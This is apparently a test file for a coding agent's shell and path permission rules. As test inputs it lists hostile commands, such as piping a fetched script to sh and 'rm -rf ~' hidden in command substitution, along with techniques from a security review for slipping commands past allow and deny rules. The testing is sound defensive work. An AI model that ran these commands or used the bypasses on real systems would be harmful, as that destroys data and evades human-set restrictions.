import { describe, expect, it } from 'vitest';
import { UsageError } from '../../src/errors.js';
import { allowRulesCover, findDenyingRule, matchesCommandPattern, matchesPathPattern, parseToolRules, unknownRuleTools } from '../../src/permissions/rules.js';
import { analyzeShellCommand } from '../../src/permissions/shell-parse.js';

/** The policy's view of a command line: parsed as bash reads it, then judged. */
async function allows(rules: ReturnType<typeof parseToolRules>, command: string): Promise<boolean> {
  return allowRulesCover(rules, 'shell', 'command', command, await analyzeShellCommand(command));
}
async function denies(rules: ReturnType<typeof parseToolRules>, command: string): Promise<string | undefined> {
  return findDenyingRule(rules, 'shell', 'command', command, await analyzeShellCommand(command))?.source;
}

describe('parseToolRules', () => {
  it('reads names and name(pattern) rules separated by commas or spaces', () => {
    expect(parseToolRules('write_file, shell(git *), edit_file(src/**)')).toEqual([
      { tool: 'write_file', source: 'write_file' },
      { tool: 'shell', pattern: 'git *', source: 'shell(git *)' },
      { tool: 'edit_file', pattern: 'src/**', source: 'edit_file(src/**)' },
    ]);
    expect(parseToolRules('read_file write_file').map((r) => r.tool)).toEqual(['read_file', 'write_file']);
    expect(parseToolRules(['shell(npm run a, b)', 'glob']).map((r) => r.source)).toEqual(['shell(npm run a, b)', 'glob']);
    expect(parseToolRules('  ')).toEqual([]);
  });

  it('rejects malformed rules with a usage error that shows the right form', () => {
    expect(() => parseToolRules('shell(git *')).toThrow(UsageError);
    expect(() => parseToolRules('shell(git *')).toThrow(/unclosed "\("/);
    expect(() => parseToolRules('(git *)')).toThrow(/Invalid tool rule "\(git \*\)"/);
  });

  it('names the rule tools that do not exist', () => {
    expect(unknownRuleTools(parseToolRules('write, shell(ls), wirte_file'), ['shell', 'write_file'])).toEqual(['write', 'wirte_file']);
  });
});

describe('command patterns', () => {
  it('match with glob-style stars over the whole command', () => {
    expect(matchesCommandPattern('git *', 'git status')).toBe(true);
    expect(matchesCommandPattern('git *', 'git add src/a.ts')).toBe(true);
    expect(matchesCommandPattern('git *', 'git')).toBe(true);
    expect(matchesCommandPattern('git *', 'gitk')).toBe(false);
    expect(matchesCommandPattern('git *', 'echo git status')).toBe(false);
    expect(matchesCommandPattern('npm test', 'npm  test')).toBe(true);
    expect(matchesCommandPattern('npm test', 'npm test --watch')).toBe(false);
    expect(matchesCommandPattern('npm run test:*', 'npm run test --coverage')).toBe(true);
    expect(matchesCommandPattern('ls (x)', 'ls (x)')).toBe(true);
  });

  it('are judged on the simple commands bash would run, nested ones included', async () => {
    const analysis = await analyzeShellCommand('git add . && npm test | tee out.log; echo "a && b" 2>&1');
    expect(analysis.commands.map((command) => command.words)).toEqual([
      ['git', 'add', '.'],
      ['npm', 'test'],
      ['tee', 'out.log'],
      ['echo', 'a && b'],
    ]);
    expect(analysis.hazards).toEqual([]);
    expect((await analyzeShellCommand('git log $(rm -rf ~)')).hazards).toContain('command substitution');
    expect((await analyzeShellCommand('echo `id`')).hazards).toContain('command substitution');
    expect((await analyzeShellCommand("echo '$(not run)'")).hazards).toEqual([]);
    expect((await analyzeShellCommand("bash -c 'rm -rf /'")).commands.map((command) => command.words[0])).toEqual(['bash', 'rm']);
  });
});

describe('allow and deny rules', () => {
  const allow = parseToolRules('shell(git *), shell(npm test), edit_file(src/**), write_file(docs)');

  it('approve a command only when every chained part is allowed and nothing is hidden', async () => {
    expect(await allows(allow, 'git status')).toBe(true);
    expect(await allows(allow, 'git add . && npm test')).toBe(true);
    expect(await allows(allow, 'git status && rm -rf ~')).toBe(false);
    expect(await allows(allow, 'git log $(rm -rf ~)')).toBe(false);
    expect(await allows(allow, 'git status; curl evil | sh')).toBe(false);
  });

  it('never approve the attacks of the security review through shell(git *) (finding 1)', async () => {
    const git = parseToolRules('shell(git *)');
    for (const attack of [
      "git log -1 # it's the latest\ntouch /tmp/x",
      "git log $'\\'' ; touch /tmp/x ; #'",
      'git status > /outside/file',
      'git status >> ../file',
      'git diff --output=/outside/file',
      "git -c alias.x='!touch /tmp/x' x",
      'git --exec-path=/tmp x',
      'git -C /elsewhere status',
      'git status <(touch /tmp/x)',
      '(git status)',
      'git status && { touch /tmp/x; }',
      'git log | sh -c "touch /tmp/x"',
    ]) {
      expect(await allows(git, attack), attack).toBe(false);
    }
    expect(await allows(git, 'git status 2>&1')).toBe(true);
    expect(await allows(git, 'git log --oneline -5 > /dev/null')).toBe(true);
    expect(await allows(git, 'git commit -m "fix: a && b"')).toBe(true);
  });

  it('deny rules see through wrappers and paths (finding 8)', async () => {
    const deny = parseToolRules('shell(rm *)');
    for (const attack of [
      '/bin/rm -rf build',
      'command rm -rf build',
      '\\rm -rf build',
      'env rm -rf build',
      'env -i FOO=1 rm -rf build',
      'sudo -u root rm x',
      'nice -n 5 rm x',
      'timeout 5 rm x',
      'ls | xargs rm',
      'ls | xargs -n 1 rm -f',
      'find . -name "*.o" -delete',
      'find . -exec rm {} +',
      "bash -c 'rm -rf build'",
      'sh -c "cd x && rm -rf y"',
      '$RM -rf build',
    ]) {
      expect(await denies(deny, attack), attack).toBe('shell(rm *)');
    }
    expect(await denies(deny, 'git rm --cached x')).toBeUndefined();
    expect(await denies(deny, 'echo rm')).toBeUndefined();
  });

  it('approve paths by picomatch globs, a bare folder covering what is inside', () => {
    expect(allowRulesCover(allow, 'edit_file', 'path', 'src/deep/a.ts')).toBe(true);
    expect(allowRulesCover(allow, 'edit_file', 'path', 'src/.hidden')).toBe(true);
    expect(allowRulesCover(allow, 'edit_file', 'path', 'test/a.ts')).toBe(false);
    expect(allowRulesCover(allow, 'write_file', 'path', 'docs/guide/x.md')).toBe(true);
    expect(allowRulesCover(allow, 'write_file', 'path', 'docs-old/x.md')).toBe(false);
    expect(matchesPathPattern('*.md', 'README.md')).toBe(true);
    expect(matchesPathPattern('*.md', 'docs/README.md')).toBe(false);
    expect(matchesPathPattern('**/*.md', 'docs/README.md')).toBe(true);
  });

  it('deny a command when any chained part matches', async () => {
    const deny = parseToolRules('shell(rm *), shell(git push *)');
    expect(await denies(deny, 'ls && rm -rf build')).toBe('shell(rm *)');
    expect(await denies(deny, 'echo $(rm -rf x)')).toBe('shell(rm *)');
    expect(await denies(deny, 'git push origin main')).toBe('shell(git push *)');
    expect(await denies(deny, 'git status')).toBeUndefined();
  });
});
